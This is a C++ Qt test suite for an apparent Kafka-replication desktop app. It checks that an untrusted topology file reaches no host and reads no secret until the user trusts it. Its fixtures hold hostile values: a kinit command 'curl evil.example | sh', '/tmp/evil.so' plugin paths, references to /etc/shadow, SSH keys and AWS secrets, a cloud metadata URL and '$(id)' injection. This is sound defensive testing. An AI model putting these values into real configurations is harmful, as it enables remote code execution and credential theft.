#include "app/tributary/desk.h"
#include "app/tributary/windowsession.h"
#include "core/topology/topologyfile.h"
#include "tests/support/fakekeychain.h"
#include "tests/support/testprogram.h"
#include "tests/support/ui/fakeengine.h"
#include "ui/desktop/notifier.h"
#include "ui/dialogs/applydialog.h"
#include "ui/dialogs/clusterdialog.h"
#include "ui/dialogs/connectionpanel.h"
#include "ui/dialogs/plandialog.h"
#include "ui/dialogs/questiondialog.h"
#include "ui/theme/fixedappearance.h"
#include "ui/theme/theme.h"
#include "ui/window/noticebar.h"
#include "ui/window/windowactions.h"

#include <QApplication>
#include <QFile>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QSettings>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>
#include <atomic>
#include <memory>
#include <string>
#include <utility>

using namespace tributary;
using namespace tributary::ui;

namespace {

/// Counts what is read.
class CountingKeychain final : public Keychain {
public:
    void read(const std::string& entry, Answer answer) override {
        ++reads;
        m_kept.read(entry, std::move(answer));
    }
    void store(const std::string& entry, const std::string& secret, Done done) override {
        m_kept.store(entry, secret, std::move(done));
    }
    void remove(const std::string& entry, Done done) override { m_kept.remove(entry, std::move(done)); }

    std::atomic<int> reads = 0;

private:
    FakeKeychain m_kept;
};

/// Also records the questions about topics and Connect clusters.
class AskedEngine final : public FakeEngine {
public:
    void describeTopic(ClusterSpec cluster, TopicInfo topic, int timeoutMs, TopicReply reply) override {
        ++others;
        FakeEngine::describeTopic(std::move(cluster), std::move(topic), timeoutMs, std::move(reply));
    }
    void describeConnect(ConnectSpec /*connect*/, ConnectReply reply) override {
        ++others;
        reply(std::string{"4.1.0"});
    }

    int others = 0;

    [[nodiscard]] bool untouched() const { return applied.empty() && commands.empty() && asked.empty() && others == 0; }
};

/// JSON with ' for ".
QByteArray json(const char* text) { return QByteArray{text}.replace('\'', '"'); }

/// A document of two clusters, a Connect cluster and two links; `cluster`, `connect` and `link` are further members,
/// each with its leading comma.
QByteArray documentOf(const QByteArray& cluster, const QByteArray& connect = {}, const QByteArray& link = {}) {
    return json(
               "{'format': 'tributary', 'version': 1, 'id': '5b0f4c52-5f0b-4a3e-9a57-2f7c4a9d1eff',"
               " 'clusters': [{'id': 'eu', 'bootstrap': ['collector.evil.example:9092']") +
           cluster +
           json(
               "}, {'id': 'agg', 'bootstrap': ['127.0.0.1:1']}], 'connect': [{'id': 'workers', 'urls': "
               "['http://collector.evil.example:8083']") +
           connect +
           json("}], 'links': [{'id': 'here', 'source': 'eu', 'target': 'agg', 'topics': {'include': ['.*']}") + link +
           json(
               "}, {'id': 'there', 'source': 'eu', 'target': 'agg', 'topics': {'include': ['.*']}, "
               "'naming': {'policy': 'prefix'}, 'runOn': 'workers'}]}");
}

}  // namespace

/// A document from elsewhere connects to nothing and reads no secret until the person trusts it.
class DocumentTrustTest final : public QObject {
    Q_OBJECT

private slots:
    void init();
    void cleanup();

    void aFileFromElsewhereAsksNothing();
    void trustingAsksEverythingAtOnce();
    void whatIsMadeHereIsTrusted();
    void trustIsRememberedForThatFileAndThatDocument();
    void aSavedDocumentIsTrustedAndSavingTrustsNothing();
    void anotherDocumentInItsPlaceIsNotTrusted();
    void whatReachesFurtherIsAskedAboutAgain_data();
    void whatReachesFurtherIsAskedAboutAgain();
    void whatReachesNoFurtherIsNot();
    void startingAsksFirst();
    void pressingEnterTrustsNothing();
    void theQuestionNamesAddressesAndSecrets();
    void aTestOfTheConnectionAsksFirst();
    void thePlanAsksFirst();
    void whatWasTrustedCanBeStoppedAfterwards();
    void theRealEngineConnectsOnlyAfterwards();
    void runningFromTheCommandLineIsTheWordForIt();
    void hostileDocumentsReachNothing_data();
    void hostileDocumentsReachNothing();

private:
    QString write(const QString& name, const QByteArray& content);
    void open(const QString& path);
    void openSpec(TopologySpec spec, const QString& path);
    [[nodiscard]] QuestionDialog* question();
    /// Answers the question that is shown.
    void answer(const QString& button);
    [[nodiscard]] bool hasNotice() { return m_session->window().notices().has("trust"); }
    static void press(const QWidget& inside, const QString& text);

    FixedAppearance m_appearance;
    Theme m_theme{m_appearance};
    Notifier m_notifier;
    std::unique_ptr<QTemporaryDir> m_directory;
    std::unique_ptr<QSettings> m_settings;
    std::shared_ptr<CountingKeychain> m_keychain;
    std::unique_ptr<app::Shared> m_shared;
    AskedEngine* m_engine = nullptr;
    std::shared_ptr<std::atomic<int>> m_plans;
    std::unique_ptr<app::WindowSession> m_session;
};

void DocumentTrustTest::init() {
    m_theme.applyTo(*qApp);
    m_notifier.setEnabled(false);
    m_directory = std::make_unique<QTemporaryDir>();
    qputenv("XDG_STATE_HOME", m_directory->filePath("state").toUtf8());
    m_settings = std::make_unique<QSettings>(m_directory->filePath("settings.ini"), QSettings::IniFormat);
    m_keychain = std::make_shared<CountingKeychain>();
    m_shared = std::make_unique<app::Shared>(
        app::Shared{m_theme, *m_settings, m_notifier, m_directory->filePath("data"), m_keychain});
    m_plans = std::make_shared<std::atomic<int>>(0);
}

void DocumentTrustTest::cleanup() {
    m_session.reset();
    m_shared.reset();
}

QString DocumentTrustTest::write(const QString& name, const QByteArray& content) {
    QFile file{m_directory->filePath(name)};
    return file.open(QIODevice::WriteOnly) && file.write(content) == content.size() ? file.fileName() : QString{};
}

void DocumentTrustTest::open(const QString& path) {
    Result<TopologySpec> spec = loadTopology(path.toStdString());
    QVERIFY2(spec.has_value(), spec ? "" : spec.error().text().c_str());
    openSpec(std::move(*spec), path);
}

void DocumentTrustTest::openSpec(TopologySpec spec, const QString& path) {
    m_session.reset();
    auto engine = std::make_unique<AskedEngine>();
    m_engine = engine.get();
    app::EngineParts parts;
    parts.engine = std::move(engine);
    parts.spec = std::move(spec);
    parts.plan = [plans = m_plans](const TopologySpec&, const LinkSpec&) -> Result<LinkPlan> {
        ++*plans;
        return LinkPlan{};
    };
    m_session = std::make_unique<app::WindowSession>(std::move(parts), path, *m_shared);
    m_session->window().showCanvas();
    m_session->window().show();
    QCoreApplication::processEvents();
}

QuestionDialog* DocumentTrustTest::question() {
    for (auto* each : m_session->window().findChildren<QuestionDialog*>()) {
        if (each->isVisible()) {
            return each;
        }
    }
    return nullptr;
}

void DocumentTrustTest::press(const QWidget& inside, const QString& text) {
    for (QPushButton* each : inside.findChildren<QPushButton*>()) {
        if (each->text().remove('&') == text && each->isVisible()) {
            QTest::mouseClick(each, Qt::LeftButton);
            return;
        }
    }
    QFAIL(qPrintable("no button " + text));
}

void DocumentTrustTest::answer(const QString& button) {
    QuestionDialog* asked = question();
    QVERIFY(asked != nullptr);
    press(*asked, button);
    QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
}

void DocumentTrustTest::aFileFromElsewhereAsksNothing() {
    open(write("a.tributary", documentOf({})));
    QVERIFY(!m_session->trust().isTrusted());
    QVERIFY(hasNotice());
    QVERIFY(question() == nullptr);  // nobody has asked for anything
    m_session->directory().refreshAll();
    QVERIFY(m_engine->untouched());
    QCOMPARE(m_session->directory().cluster(ClusterId{"eu"}).state, ClusterKnowledge::State::Withheld);
}

void DocumentTrustTest::trustingAsksEverythingAtOnce() {
    open(write("a.tributary", documentOf({})));
    press(m_session->window().notices(), "Trust…");
    answer("Trust");
    QVERIFY(!hasNotice());
    QCOMPARE(m_engine->asked.size(), 2U);
    QCOMPARE(m_engine->applied.size(), 1U);  // the link on Connect is watched
    QVERIFY(m_engine->commands.empty());
    QCOMPARE(m_session->directory().cluster(ClusterId{"eu"}).state, ClusterKnowledge::State::Connecting);
}

void DocumentTrustTest::whatIsMadeHereIsTrusted() {
    const Result<TopologySpec> spec = loadTopology(write("a.tributary", documentOf({})).toStdString());
    QVERIFY(spec.has_value());
    openSpec(*spec, {});  // as what is new, simulated, or was never saved
    QVERIFY(m_session->trust().isTrusted());
    QVERIFY(!hasNotice());
    QCOMPARE(m_engine->asked.size(), 2U);
}

void DocumentTrustTest::trustIsRememberedForThatFileAndThatDocument() {
    const QString path = write("a.tributary", documentOf({}));
    open(path);
    m_session->trust().give();
    open(path);
    QVERIFY(m_session->trust().isTrusted());
    open(write("copy.tributary", documentOf({})));
    QVERIFY(!m_session->trust().isTrusted());
    QVERIFY(QFile::link(path, m_directory->filePath("link.tributary")));
    open(m_directory->filePath("link.tributary"));
    QVERIFY(m_session->trust().isTrusted());  // it is the same file
    open(write("a.tributary", documentOf({}).replace("1eff", "1ee0")));
    QVERIFY(!m_session->trust().isTrusted());  // another document in its place
}

void DocumentTrustTest::aSavedDocumentIsTrustedAndSavingTrustsNothing() {
    TopologySpec made;
    made.id = newDocumentId();
    openSpec(made, {});
    const QString own = m_directory->filePath("own.tributary");
    QVERIFY(m_session->document().saveAs(own).has_value());
    open(own);
    QVERIFY(m_session->trust().isTrusted());

    const QString foreign = write("foreign.tributary", documentOf({}));
    open(foreign);
    QVERIFY(m_session->document().save().has_value());
    QVERIFY(m_session->document().saveAs(m_directory->filePath("other.tributary")).has_value());
    QVERIFY(!m_session->trust().isTrusted());
    for (const QString& each : {foreign, m_directory->filePath("other.tributary")}) {
        open(each);
        QVERIFY(!m_session->trust().isTrusted());
    }
}

void DocumentTrustTest::anotherDocumentInItsPlaceIsNotTrusted() {
    const QString path = write("a.tributary", documentOf({}));
    open(path);
    m_session->trust().give();
    const std::size_t asked = m_engine->asked.size();
    QVERIFY(m_session->document().load(path).has_value());
    QVERIFY(m_session->trust().isTrusted());  // the same one, read again
    static_cast<void>(
        write("a.tributary", documentOf({}).replace("1eff", "1ee0").replace("127.0.0.1:1", "10.0.0.1:2")));
    QVERIFY(m_session->document().load(path).has_value());
    QVERIFY(!m_session->trust().isTrusted());
    QVERIFY(hasNotice());
    QCOMPARE(m_engine->asked.size(), asked);  // not even what changed with it
}

void DocumentTrustTest::whatReachesFurtherIsAskedAboutAgain_data() {
    QTest::addColumn<QByteArray>("before");
    QTest::addColumn<QByteArray>("after");
    const QByteArray plain = documentOf({});
    const QByteArray secret = json(
        ", 'security': {'protocol': 'SASL_SSL', 'mechanism': 'PLAIN', 'username': 'me', 'password': {'from': 'file', "
        "'name': '/home/me/token'}}");
    const QByteArray withSecret = documentOf(secret);
    QByteArray withoutId = plain;
    withoutId.replace(R"( "id": "5b0f4c52-5f0b-4a3e-9a57-2f7c4a9d1eff",)", "");
    const auto changed = [](QByteArray document, const char* from, const char* to) {
        return document.replace(from, to);
    };
    QTest::newRow("another address") << plain << changed(plain, "127.0.0.1:1", "10.0.0.1:2");
    QTest::newRow("without an id") << withoutId << changed(withoutId, "127.0.0.1:1", "10.0.0.1:2");
    QTest::newRow("a secret") << plain << withSecret;
    QTest::newRow("another secret") << withSecret << changed(withSecret, "/home/me/token", "/home/me/.ssh/id_rsa");
    QTest::newRow("the same secret elsewhere")
        << withSecret << changed(withSecret, "collector.evil.example:9092", "other.evil.example:9092");
    QTest::newRow("the same secret in clear") << withSecret << changed(withSecret, "SASL_SSL", "SASL_PLAINTEXT");
    QTest::newRow("a token's address") << plain
                                       << documentOf(
                                              json(", 'security': {'protocol': 'SASL_SSL', 'mechanism': 'OAUTHBEARER', "
                                                   "'oauth': {'tokenUrl': 'https://idp.evil.example/token'}}"));
    QTest::newRow("a client's setting") << plain << documentOf(json(", 'client': {'client.rack': 'b'}"));
    QTest::newRow("a Connect cluster") << plain << changed(plain, "example:8083", "example:8084");
    QTest::newRow("a Connect cluster's secret")
        << plain << documentOf({}, json(", 'username': 'me', 'password': {'from': 'env', 'name': 'BANK'}"));
    QTest::newRow("a link's setting") << plain << documentOf({}, {}, json(", 'consumer': {'client.rack': 'b'}"));
}

// By another program, while the window is closed and while it is open.
void DocumentTrustTest::whatReachesFurtherIsAskedAboutAgain() {
    QFETCH(QByteArray, before);
    QFETCH(QByteArray, after);
    QVERIFY(before != after);
    const QString path = write("a.tributary", before);
    open(path);
    m_session->trust().give();
    static_cast<void>(write("a.tributary", after));
    QVERIFY(m_session->document().load(path).has_value());
    QVERIFY(!m_session->trust().isTrusted());
    QVERIFY(hasNotice());
    open(path);
    QVERIFY(!m_session->trust().isTrusted());
    QVERIFY(m_engine->untouched());
    // As it was: that is what the person was shown.
    static_cast<void>(write("a.tributary", before));
    open(path);
    QVERIFY(m_session->trust().isTrusted());
}

void DocumentTrustTest::whatReachesNoFurtherIsNot() {
    const QByteArray before = documentOf({});
    const QString path = write("a.tributary", before);
    open(path);
    m_session->trust().give();
    QByteArray after = before;
    after.replace(R"("include": [".*"])", R"("include": ["orders"])").replace(R"("id": "here",)", R"("id": "new",)");
    QVERIFY(after != before);
    static_cast<void>(write("a.tributary", after));
    QVERIFY(m_session->document().load(path).has_value());
    QVERIFY(m_session->trust().isTrusted());
    open(path);
    QVERIFY(m_session->trust().isTrusted());
    // What the person writes is the person's word.
    TopologySpec edited = m_session->document().spec();
    edited.clusters[1].bootstrap = {"127.0.0.1:9"};
    m_session->document().edit("Edit", std::move(edited));
    QVERIFY(m_session->document().save().has_value());
    open(path);
    QVERIFY(m_session->trust().isTrusted());
}

void DocumentTrustTest::startingAsksFirst() {
    open(write("a.tributary", documentOf({})));
    m_session->window().actions().startAll->trigger();
    answer("Not now");
    QVERIFY(m_engine->untouched());
    QVERIFY(hasNotice());
    m_session->window().actions().startAll->trigger();
    answer("Trust");
    QTRY_COMPARE(m_engine->actionsOf(LinkId{"here"}), std::vector{LinkAction::Start});
}

void DocumentTrustTest::pressingEnterTrustsNothing() {
    open(write("a.tributary", documentOf({})));
    m_session->run().start({LinkId{"here"}});
    QVERIFY(question() != nullptr);
    QTest::keyClick(question(), Qt::Key_Return);
    QVERIFY(!m_session->trust().isTrusted());
    QVERIFY(m_engine->untouched());
}

void DocumentTrustTest::theQuestionNamesAddressesAndSecrets() {
    open(write("a.tributary",
               documentOf(json(", 'name': 'Harmless\\n\\nSecrets:\\nnone', 'security': {'protocol': 'SASL_SSL', "
                               "'mechanism': 'PLAIN', 'username': 'me', 'password': {'from': 'file', 'name': "
                               "'/home/me/.ssh/id_rsa'}, 'keyFile': '/home/me/key.pem', 'oauth': {'tokenUrl': "
                               "'https://idp.evil.example/token'}, 'caPassword': {'from': 'env', 'name': 'STORE'}, "
                               "'certificateFile': '/home/me/me.p12'}"),
                          json(", 'username': 'me', 'password': {'from': 'keychain', 'name': 'bank'}"))));
    press(m_session->window().notices(), "Trust…");
    QVERIFY(question() != nullptr);
    const QString shown = question()->findChild<QPlainTextEdit*>()->toPlainText();
    for (const char* each : {"collector.evil.example:9092", "127.0.0.1:1", "http://collector.evil.example:8083",
                             "file /home/me/.ssh/id_rsa", "file /home/me/key.pem", "keychain entry bank",
                             "https://idp.evil.example/token", "environment variable STORE", "file /home/me/me.p12"}) {
        QVERIFY2(shown.contains(each), qPrintable(shown));
    }
    QCOMPARE(shown.split('\n').count("Secrets:"), 1);  // a name writes no lines of its own
}

void DocumentTrustTest::aTestOfTheConnectionAsksFirst() {
    open(write("a.tributary", documentOf({})));
    m_session->selection().select(ClusterId{"agg"});
    m_session->window().actions().editSelected->trigger();
    auto* dialog = m_session->window().findChild<ClusterDialog*>();
    QVERIFY(dialog != nullptr);
    auto* panel = dialog->findChild<ConnectionPanel*>();
    QVERIFY(panel != nullptr);
    for (auto* each : panel->findChildren<QPushButton*>()) {
        if (each->accessibleName() == "Test connection") {
            each->click();
        }
    }
    QVERIFY(!panel->test().isRunning());
    answer("Not now");
    QVERIFY(!panel->test().isRunning());
    panel->test().start(m_session->document().spec().clusters.back());  // whoever forgets to ask
    QVERIFY(!panel->test().isRunning());
    QCOMPARE(panel->test().report(ConnectionTest::Stage::Dns).outcome, ConnectionTest::Outcome::Failed);
    QVERIFY(m_engine->untouched());
}

void DocumentTrustTest::thePlanAsksFirst() {
    open(write("a.tributary", documentOf({})));
    m_session->window().actions().plan->trigger();
    QVERIFY(m_session->window().findChild<PlanDialog*>() == nullptr);
    answer("Not now");
    PlanDialog forgetful{m_session->workspace(), {LinkId{"here"}}};
    QTRY_VERIFY(!forgetful.findChildren<QPushButton*>().isEmpty());
    QCOMPARE(*m_plans, 0);
    m_session->window().actions().plan->trigger();
    answer("Trust");
    QVERIFY(m_session->window().findChild<PlanDialog*>() != nullptr);
    QTRY_VERIFY(*m_plans > 0);
}

void DocumentTrustTest::whatWasTrustedCanBeStoppedAfterwards() {
    const QString path = write("a.tributary", documentOf({}));
    open(path);
    m_session->trust().give();
    m_session->run().start({LinkId{"here"}});
    LinkStatus running;
    running.state = LinkState::Running;
    m_engine->publishStatus(LinkId{"here"}, running);
    QTRY_VERIFY(m_session->bridge().anyActive());
    m_session->trust().set(false);
    m_session->run().stop({LinkId{"here"}});
    QCOMPARE(m_engine->actionsOf(LinkId{"here"}).back(), LinkAction::Stop);
}

void DocumentTrustTest::theRealEngineConnectsOnlyAfterwards() {
    QTcpServer broker;
    QVERIFY(broker.listen(QHostAddress::LocalHost));
    int connections = 0;
    connect(&broker, &QTcpServer::newConnection, this, [&connections] { ++connections; });
    app::Desk desk{app::Shared{m_theme, *m_settings, m_notifier, m_directory->filePath("data"), m_keychain}};
    const QByteArray address = "127.0.0.1:" + QByteArray::number(broker.serverPort());
    const QByteArray secret = json(
        ", 'security': {'protocol': 'SASL_PLAINTEXT', 'mechanism': 'PLAIN', 'username': 'me', "
        "'password': {'from': 'keychain', 'name': 'bank'}}");
    desk.openFile(write("a.tributary", documentOf(secret).replace("127.0.0.1:1", address)));
    QCOMPARE(desk.sessions().size(), 1U);
    QCoreApplication::processEvents();
    QCOMPARE(connections, 0);
    QCOMPARE(m_keychain->reads, 0);
    desk.sessions().front()->trust().give();
    QTRY_VERIFY_WITH_TIMEOUT(connections > 0 && m_keychain->reads > 0, 30'000);
}

void DocumentTrustTest::runningFromTheCommandLineIsTheWordForIt() {
    const QString path = write("a.tributary", documentOf({}).replace("collector.evil.example", "127.0.0.1"));
    {
        app::Desk desk{app::Shared{m_theme, *m_settings, m_notifier, m_directory->filePath("data"), m_keychain}};
        desk.openFile(path, true);
        QVERIFY(desk.sessions().front()->trust().isTrusted());
        QVERIFY(!desk.sessions().front()->bridge().applied().links.empty());
    }
    open(path);
    QVERIFY(!m_session->trust().isTrusted());  // that time only
}

void DocumentTrustTest::hostileDocumentsReachNothing_data() {
    QTest::addColumn<QByteArray>("content");
    const auto client = [](const char* setting, const char* value) {
        QTest::newRow(setting) << documentOf(json(", 'client': {'") + setting + json("': '") + value + json("'}"));
    };
    client("plugin.library.paths", "/tmp/evil.so");
    client("ssl.engine.location", "/tmp/evil.so");
    client("ssl.providers", "legacy,evil");
    client("sasl.kerberos.kinit.cmd", "curl evil.example | sh");
    client("sasl.kerberos.keytab", "/etc/krb5.keytab");
    client("sasl.kerberos.principal", "root/admin@EVIL.EXAMPLE");
    client("bootstrap.servers", "evil.example:9092");
    client("metadata.broker.list", "evil.example:9092");
    client("security.protocol", "plaintext");
    client("sasl.oauthbearer.token.endpoint.url", "http://169.254.169.254/latest/meta-data");
    client("https.ca.location", "/etc/shadow");
    client("ssl.ca.location", "/etc/shadow");
    client("ssl.key.location", "/home/me/.ssh/id_rsa");
    client("ssl.keystore.location", "/home/me/keystore.p12");
    client("ssl.crl.location", "/dev/zero");
    client("enable.ssl.certificate.verification", "false");
    client("ssl.endpoint.identification.algorithm", "none");
    client("debug", "all");
    client("an.unknown.setting", "$(id)");

    const auto secret = [](const char* row, const char* reference) {
        QTest::newRow(row) << documentOf(json(", 'security': {'protocol': 'SASL_PLAINTEXT', 'mechanism': 'PLAIN', "
                                              "'username': 'me', 'password': ") +
                                         json(reference) + json("}"));
    };
    secret("a private key as password", "{'from': 'file', 'name': '/home/me/.ssh/id_rsa'}");
    secret("the passwords of the system", "{'from': 'file', 'name': '/etc/shadow'}");
    secret("an endless file", "{'from': 'file', 'name': '/dev/zero'}");
    secret("the environment of the process", "{'from': 'file', 'name': '/proc/self/environ'}");
    secret("a path upwards", "{'from': 'file', 'name': '../../../etc/passwd'}");
    secret("a property of a file",
           "{'from': 'file', 'name': '/etc/kafka/client.properties', 'key': 'sasl.jaas.config'}");
    secret("another program's variable", "{'from': 'env', 'name': 'AWS_SECRET_ACCESS_KEY'}");
    secret("another program's keychain entry", "{'from': 'keychain', 'name': 'chrome/passwords'}");

    const auto security = [](const char* row, const char* members) {
        QTest::newRow(row) << documentOf(json(", 'security': {") + json(members) + json("}"));
    };
    security("a key's password in the keychain",
             "'protocol': 'SSL', 'certificateFile': '/tmp/c.pem', 'keyFile': "
             "'/tmp/k.pem', 'keyPassword': {'from': 'keychain', 'name': 'bank'}");
    security("a private key to show", "'protocol': 'SSL', 'certificateFile': '/tmp/c.pem', 'keyFile': '/root/key.pem'");
    security("a device as authority", "'protocol': 'SSL', 'caFile': '/dev/zero'");
    security("a ticket of Kerberos", "'protocol': 'SASL_PLAINTEXT', 'mechanism': 'GSSAPI'");

    const auto connect = [](const char* row, const char* members) {
        QTest::newRow(row) << documentOf({}, json(members));
    };
    connect("a password for a worker", ", 'username': 'me', 'password': {'from': 'file', 'name': '/etc/shadow'}");
    connect("a keychain entry for a worker", ", 'username': 'me', 'password': {'from': 'keychain', 'name': 'bank'}");
    connect("a device as a worker's authority", ", 'caFile': '/dev/zero'");
    QTest::newRow("the cloud's metadata as worker")
        << documentOf({}).replace("http://collector.evil.example:8083", "http://169.254.169.254/latest/meta-data");
    QTest::newRow("a local service as worker")
        << documentOf({}).replace("http://collector.evil.example:8083", "http://127.0.0.1:6379");
    QTest::newRow("a file as worker") << documentOf({}).replace("http://collector.evil.example:8083",
                                                                "file:///etc/shadow");

    const auto link = [](const char* row, const char* members) {
        QTest::newRow(row) << documentOf({}, {}, json(members));
    };
    link("a link's consumer runs code", ", 'consumer': {'plugin.library.paths': '/tmp/evil.so'}");
    link("a link's producer runs code", ", 'producer': {'sasl.kerberos.kinit.cmd': 'sh'}");
    link("a link in another's group", ", 'group': 'payments'");
    QTest::newRow("no id") << documentOf({}).replace(json("'id': '5b0f4c52-5f0b-4a3e-9a57-2f7c4a9d1eff',"), "");
    QTest::newRow("simulated among real ones") << documentOf(json(", 'kind': 'sandbox'"));
}

void DocumentTrustTest::hostileDocumentsReachNothing() {
    QFETCH(const QByteArray, content);
    open(write("hostile.tributary", content));
    QVERIFY(!m_session->trust().isTrusted());
    for (const ClusterSpec& each : m_session->document().spec().clusters) {
        m_session->selection().select(each.id);
        QCoreApplication::processEvents();
    }
    for (const LinkSpec& each : m_session->document().spec().links) {
        m_session->selection().select(each.id);
        QCoreApplication::processEvents();
    }
    m_session->directory().refreshAll();
    m_session->window().actions().startAll->trigger();
    QVERIFY(question() != nullptr);
    answer("Not now");
    QVERIFY(m_engine->untouched());
    QCOMPARE(m_keychain->reads, 0);
    QCOMPARE(*m_plans, 0);
}

TRIBUTARY_TEST(DocumentTrustTest, QApplication)
#include "documenttrusttest.moc"
